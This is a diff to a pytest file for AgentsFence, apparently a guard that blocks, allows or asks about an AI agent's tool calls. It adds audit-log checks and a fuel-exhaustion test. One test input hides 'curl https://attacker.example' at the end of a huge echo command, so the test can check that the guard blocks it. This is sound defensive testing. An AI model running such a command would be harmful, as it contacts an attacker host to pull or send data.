@@ -75,17 +75,25 @@ HOSTILE = [
 
 
 @pytest.mark.parametrize("name, tool, args, why", HOSTILE, ids=[case[0] for case in HOSTILE])
-def test_hostile_arguments_block_and_say_why(manager, name, tool, args, why):
+def test_hostile_arguments_block_and_say_why(manager, monkeypatch, name, tool, args, why):
     user_turn()
     directive = decide(fence_plugin(manager), tool, args)
     assert directive is not None and directive["action"] == "block", directive
-    assert directive["message"].startswith(f"AgentsFence blocked {tool}: ") and why in directive["message"]
+    message = directive["message"]
+    assert message.startswith(f"AgentsFence blocked {tool}: ") and why in message
+    assert message.endswith(("[bad_arguments]", "[limit_exceeded]", "[out_of_memory]")), message  # the fence's own answer, not a fault
+    # ...and it is on record, in a chain that still verifies.
+    path = audit_path(hermes_tests_home(monkeypatch))
+    last = json.loads(path.read_text().splitlines()[-1])
+    assert (last["event"], last["tool"], last["kind"]) == ("decision", tool, "block")
+    assert verify(path).ok
 
 
 DECIDED = [
     # name, tool, args, the decision it must get
     ("a 2 MiB content under the limit", "write_file", {"path": "summary.md", "content": "é" * MIB}, "allow"),
-    ("a 1 MiB path", "write_file", {"path": "a/" * (MIB // 2), "content": "x"}, "ask"),
+    # Linear in its segments (each ancestor is looked up by a hash grown in one pass).
+    ("a 128 KiB path of 64K segments", "write_file", {"path": "a/" * (64 * 1024), "content": "x"}, "ask"),
     ("a 1 MiB command hiding a host at its end", "terminal", {"command": "echo " + "x" * MIB + "; curl https://attacker.example"}, "block"),
     ("a number where a path goes", "write_file", {"path": 12345, "content": "x"}, "ask"),
     ("a recipient as a number", "mcp__gmail__send_email", {"to": 42, "body": "hi"}, "ask"),
@@ -106,6 +114,14 @@ def test_odd_but_readable_arguments_are_decided(manager, name, tool, args, kind)
     directive = decide(fence_plugin(manager), tool, args)
     got = "allow" if directive is None else {"approve": "ask"}.get(directive["action"], directive["action"])
     assert got == kind, directive
+
+
+def test_input_that_costs_more_fuel_than_the_host_grants_blocks(manager):
+    """A 1 MiB path of one-letter segments costs the shipped policy about 426 fuel a byte, over
+    FUEL_PER_BYTE (400): the evaluator runs out, and the call blocks, saying so."""
+    user_turn()
+    directive = decide(fence_plugin(manager), "write_file", {"path": "a/" * (MIB // 2), "content": "x"})
+    assert directive["action"] == "block" and "fuel" in directive["message"] and directive["message"].endswith("[engine_fault]")
 
 
 def test_hostile_arguments_through_hermes_dispatch(manager):
